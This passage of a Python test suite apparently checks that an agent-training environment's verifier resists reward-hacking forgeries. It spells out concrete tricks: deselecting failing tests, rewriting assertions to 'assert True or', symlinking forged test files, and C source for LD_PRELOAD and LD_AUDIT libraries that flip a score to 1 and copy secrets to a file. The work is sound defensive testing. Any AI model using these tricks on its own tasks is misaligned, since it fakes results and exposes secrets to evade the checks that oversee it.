    opts = " ".join(f"--deselect {i}" for i in task.tests.fail_to_pass)
    inner = " ".join(f"--deselect {i.removeprefix('tests/')}" for i in task.tests.fail_to_pass)
    config = task.tests.pytest_config or "pytest.ini"
    section = {"pyproject.toml": "[tool.pytest.ini_options]\naddopts = '%s'\n",
               "setup.cfg": "[tool:pytest]\naddopts = %s\n"}.get(config, "[pytest]\naddopts = %s\n") % opts
    return (_put(f"/testbed/{config}", section) + _put("/testbed/pytest.ini", f"[pytest]\naddopts = {opts}\n")
            + _put("/testbed/tests/pytest.ini", f"[pytest]\naddopts = {inner}\n"))


def _swe_symlink_test(task: Any) -> str:
    """Each test file a symlink to a copy whose assertions always hold."""
    script = ""
    for f in task.tests.test_files:
        forged = f"/testbed/.forged/{f}"
        script += (f"mkdir -p \"$(dirname {forged})\" && sed -E 's/^( *)assert /\\1assert True or /' /testbed/{f} "
                   f"> {forged} && rm /testbed/{f} && ln -s {forged} /testbed/{f}\n")
    return script


SWE_ROWS: dict[str, Callable[[Any], str]] = {
    "edit_tests": _swe_edit_tests, "conftest_everywhere": _swe_conftest, "pth_plugin": _swe_pth_plugin,
    "entry_point_plugin": _swe_entry_point, "sitecustomize": _swe_sitecustomize, "fake_pytest": _swe_fake_pytest,
    "fake_interpreter": _swe_fake_interpreter, "addopts_deselect": _swe_addopts, "symlink_test_file": _swe_symlink_test,
}


@pytest.fixture(scope="module")
def swe_tasks() -> list[Any]:
    from atropos.envs.examples.swe_tasks import task_images
    from tests.pool_backends import require_docker

    require_docker()
    return task_images()


async def swe_rollout(pool: SlotPool, task: Any, script: str, *, gold: bool = False) -> tuple[float, dict[str, Any]]:
    """A rollout on the task's image root: the gold fix with ``edit_file`` when asked, then
    ``script`` with bash (uid 0, the image's env), then the seal and the env's verification."""
    from atropos.envs.repo_tests import run_repo_tests

    async with pool.leased(f"forgery-swe-{secrets.token_hex(3)}", image=task.image) as lease:
        if gold:
            for e in task.gold:
                await lease.ok("edit_file", {"path": f"/testbed/{e.path}", "old_string": e.old, "new_string": e.new})
        if script:
            done = await lease.bash(script, timeout_s=60)
            assert done.exit_code == 0, done.stderr
        await lease.seal()
        return await run_repo_tests(lease, task.tests, timeout_s=60)


@pytest.mark.docker
@pytest.mark.parametrize("instance", ["strkit-1", "datewise-1", "inikit-1"])
async def test_swe_gold_patch_scores_one_and_no_patch_zero(pool: SlotPool, swe_tasks: list[Any], instance: str) -> None:
    task = next(t for t in swe_tasks if t.instance_id == instance)
    score, info = await swe_rollout(pool, task, "", gold=True)
    assert score == 1.0 and info["tests_passed"] == len(task.tests.ids), info
    score, info = await swe_rollout(pool, task, "")
    assert score == 0.0 and info["fail_to_pass_failed"] == task.tests.fail_to_pass, info
    assert info["pass_to_pass_failed"] == [] and "verifier_error" not in info, info


@pytest.mark.docker
@pytest.mark.parametrize("row", sorted(SWE_ROWS))
async def test_a_swe_forgery_scores_zero(pool: SlotPool, swe_tasks: list[Any], row: str) -> None:
    task = swe_tasks[0]
    score, info = await swe_rollout(pool, task, SWE_ROWS[row](task))
    assert score == 0.0, info


@pytest.mark.docker
async def test_the_swe_gold_patch_still_scores_one_beside_every_forgery(pool: SlotPool, swe_tasks: list[Any]) -> None:
    """The fresh root drops every forgery, not the fix (the repository's code is the agent's)."""
    task = swe_tasks[0]
    last = "fake_interpreter"  # the other rows ask the env's python where its site-packages are
    script = "".join(SWE_ROWS[row](task) for row in [*sorted(set(SWE_ROWS) - {last}), last])
    score, info = await swe_rollout(pool, task, script, gold=True)
    assert score == 1.0, info


@pytest.mark.docker
@pytest.mark.parametrize("row", ["conftest_everywhere", "edit_tests", "pth_plugin", "sitecustomize"])
async def test_without_the_fresh_root_these_swe_rows_win(pool: SlotPool, swe_tasks: list[Any], row: str,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """The fresh root is what stops them: the same verifier run on the agent's own root scores them 1."""
    from atropos.envs.repo_tests import RepoTests

    monkeypatch.setattr(RepoTests, "fresh_root", lambda self: None)
    score, info = await swe_rollout(pool, swe_tasks[0], SWE_ROWS[row](swe_tasks[0]))
    assert score == 1.0, info


# -- the verifier's runner on an image root: nothing of the root it checks runs in it ---------------
# A library the agent plants where the loader of any process started in its root looks (its
# /etc/ld.so.preload, or the file the image's LD_PRELOAD / LD_AUDIT names): in the runner it would
# see the request (secrets included) as it is read and rewrite the verdict as it is written.
FORGE_SO_C = r'''
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static ssize_t (*real_write)(int, const void *, size_t);
static ssize_t (*real_read)(int, void *, size_t);
ssize_t write(int fd, const void *buf, size_t n) {
    if (!real_write) real_write = dlsym(RTLD_NEXT, "write");
    const char *hit = memmem(buf, n, "\"score\":0.0", 11);
    if (!hit) return real_write(fd, buf, n);
    char *copy = malloc(n);
    memcpy(copy, buf, n);
    copy[hit - (const char *)buf + 8] = '1';
    ssize_t r = real_write(fd, copy, n);
    free(copy);
    return r;
}
ssize_t read(int fd, void *buf, size_t n) {
    if (!real_read) real_read = dlsym(RTLD_NEXT, "read");
    ssize_t r = real_read(fd, buf, n);
    if (r > 0 && memmem(buf, (size_t)r, "\"secrets\"", 9)) {
        int o = open("/forged-secrets", O_WRONLY | O_CREAT | O_APPEND, 0644);
        if (o >= 0) { real_write(o, buf, (size_t)r); close(o); }
    }
    return r;
}
'''
# An audit library (LD_AUDIT) runs its constructor in every process that starts with it: it leaves
# a mark when that process is the verification runner.
FORGE_AUDIT_C = r'''
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
unsigned int la_version(unsigned int v) { return v; }
__attribute__((constructor)) static void mark(void) {
    char argv[4096] = {0};
    int fd = open("/proc/self/cmdline", O_RDONLY);
    if (fd < 0) return;
    ssize_t n = read(fd, argv, sizeof argv - 1);
    close(fd);
    for (ssize_t i = 0; i < n; i++) if (!argv[i]) argv[i] = ' ';
    if (strstr(argv, "verifier")) {
        int o = open("/forged-audit", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (o >= 0) { (void)!write(o, "ran in the runner\n", 18); close(o); }
    }
}
'''
# The checker: the answer the agent left against the expected one, a secret; its child (as a
# checker's tests are) runs in the root checked, with the image's Env.
IMAGE_CHECKER = r'''
import subprocess


def verify(workspace, secrets, args):
    try:
        answer = read_workspace("answer.txt", 4096).strip().decode()
    except OSError:
        answer = ""
    child = subprocess.run(["/bin/sh", "-c", "echo $TASK_ID $LD_PRELOAD; pwd; cat /etc/task-marker"],
                           capture_output=True, text=True)
    return {"score": 1.0 if answer == secrets["expected"] else 0.0, "child": child.stdout}
'''


@pytest.fixture(scope="module")
def forge_libs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    import shutil

    from tests.task_images import compile_shared

    if shutil.which("cc") is None:
        pytest.skip("no C compiler on this machine to build the planted libraries")
    out = tmp_path_factory.mktemp("forge-libs")
    compile_shared(FORGE_SO_C, out / "forge.so")
    compile_shared(FORGE_AUDIT_C, out / "audit.so")
    return {"preload": (out / "forge.so").read_bytes(), "audit": (out / "audit.so").read_bytes()}


async def _image_forgery(pool: SlotPool, image: str, plant: dict[str, bytes],
                         script: str) -> tuple[Any, dict[str, Any]]:
    """A wrong answer, ``plant`` (absolute path -> bytes) and ``script`` in a slot of ``image``; then
    the seal and a verify with a secret. Returns the result and what the planted code left behind."""
    async with pool.leased(f"forgery-image-{secrets.token_hex(3)}", image=image) as lease:
        await lease.bash("echo wrong > answer.txt; echo from-the-root > /etc/task-marker")
        for path, data in plant.items():
            await lease.write_bytes(path, data)
        if script:
            done = await lease.bash(script)
            assert done.exit_code == 0, done.stderr
        await lease.seal()
        result = await lease.verify(IMAGE_CHECKER, secrets={"expected": "right-answer"}, timeout_s=60)
        left = {}
        for mark in ("/forged-secrets", "/forged-audit"):
            try:
                left[mark] = await lease.read_file(mark)
            except ToolError:
                pass
        return result, left


@pytest.mark.docker
async def test_a_planted_ld_so_preload_never_reaches_the_runner(pool: SlotPool, task_image: Any,
                                                                forge_libs: dict[str, bytes]) -> None:
    """``/etc/ld.so.preload`` of the image slot names the agent's library: the runner loaded it
    before it started from host files (docs/verification.md)."""
    result, left = await _image_forgery(pool, task_image("pyenv"), {"/usr/local/lib/forge.so": forge_libs["preload"]},
                                        "echo /usr/local/lib/forge.so > /etc/ld.so.preload")
    assert result.ok and result.score == 0.0, (result.error, result.log)
    assert left == {}, left  # no copy of the request, no secret in the root
    # the checker's child ran in the slot's root (its /etc), at the image's WorkingDir, with the Env
    assert result.verdict is not None
    assert result.verdict["child"].split("\n")[1:3] == ["/testbed", "from-the-root"], result.verdict


@pytest.mark.docker
async def test_ld_preload_and_ld_audit_of_the_image_env_never_reach_the_runner(
        pool: SlotPool, task_image: Any, forge_libs: dict[str, bytes]) -> None:
    """The image's Env preloads a library and an audit library; the agent replaces both files with
    its own: the runner got them through the image's Env before it started with a clean one. The
    checker's children still get the image's Env, as ``docker run`` gives it."""
    from tests.task_images import AUDIT_LIB, PRELOAD_LIB

    result, left = await _image_forgery(pool, task_image("preload"),
                                        {PRELOAD_LIB: forge_libs["preload"], AUDIT_LIB: forge_libs["audit"]}, "")
    assert result.ok and result.score == 0.0, (result.error, result.log)
    assert left == {}, left
    assert result.verdict is not None
    assert result.verdict["child"].split("\n")[:2] == [f"preload {PRELOAD_LIB}", "/task"], result.verdict


@pytest.mark.docker
async def test_the_honest_answer_scores_one_on_an_image_root(pool: SlotPool, task_image: Any) -> None:
    async with pool.leased("forgery-image-honest", image=task_image("preload")) as lease:
        await lease.bash("echo right-answer > answer.txt; echo from-the-root > /etc/task-marker")
        result = await lease.verify(IMAGE_CHECKER, secrets={"expected": "right-answer"}, timeout_s=60)
        assert result.ok and result.score == 1.0, result


# -- the REST route verifies as Lease.verify does -------------------------------------------------
REST_TESTS_CHECKER = r'''
import subprocess


def verify(workspace, secrets, args):
    run = subprocess.run(["/opt/conda/envs/testbed/bin/python", "-m", "pytest", "-q", "-p", "no:cacheprovider",
                          "tests"], cwd="/testbed", capture_output=True, text=True)
    return {"score": 1.0 if run.returncode == 0 else 0.0, "tail": run.stdout[-300:]}
'''


@pytest.mark.docker
async def test_the_rest_route_restores_and_refuses_what_it_does_not_know(pool: SlotPool, task_image: Any) -> None:
    """REST rows: the agent makes the failing test pass by editing it; the REST verify's ``restore``
    (silently dropped before: the edited test scored 1) puts it back, and a misspelt field
    (``restroe``) is refused with 422 instead of verifying without it."""
    import httpx

    from atropos.api.server import ToolServerSettings, create_tool_server

    app = create_tool_server(pool, ToolServerSettings(token="t0ken-rest-rows"), manage_pool=False)
    async with serve_on_loopback(app) as (url, _):
        async with httpx.AsyncClient(base_url=url, timeout=180,
                                     headers={"Authorization": "Bearer t0ken-rest-rows"}) as http:
            leased = await http.post("/v1/slots", json={"trajectory_id": "rest-rows", "image": task_image("pyenv")})
            lease_id = leased.json()["lease_id"]
            edit = await http.post(f"/v1/slots/{lease_id}/call", json={"tool": "bash", "args": {
                "command": "sed -i 's/assert sub(5, 3) == 2/assert True/' tests/test_calc.py && echo edited"}})
            assert edit.json()["content"] == "edited", edit.text
            body = {"program": REST_TESTS_CHECKER, "timeout_s": 120}
            misspelt = await http.post(f"/v1/slots/{lease_id}/verify",
                                       json={**body, "restroe": ["/testbed/tests/test_calc.py"]})
            assert misspelt.status_code == 422 and "restroe" in misspelt.json()["error"]["message"], misspelt.text
            verified = await http.post(f"/v1/slots/{lease_id}/verify",
                                       json={**body, "restore": ["/testbed/tests/test_calc.py"]})
            assert verified.status_code == 200, verified.text
            result = verified.json()
            assert result["ok"] and result["score"] == 0.0 and "1 failed" in result["verdict"]["tail"], result
            assert (await http.delete(f"/v1/slots/{lease_id}")).json() == {"released": True}
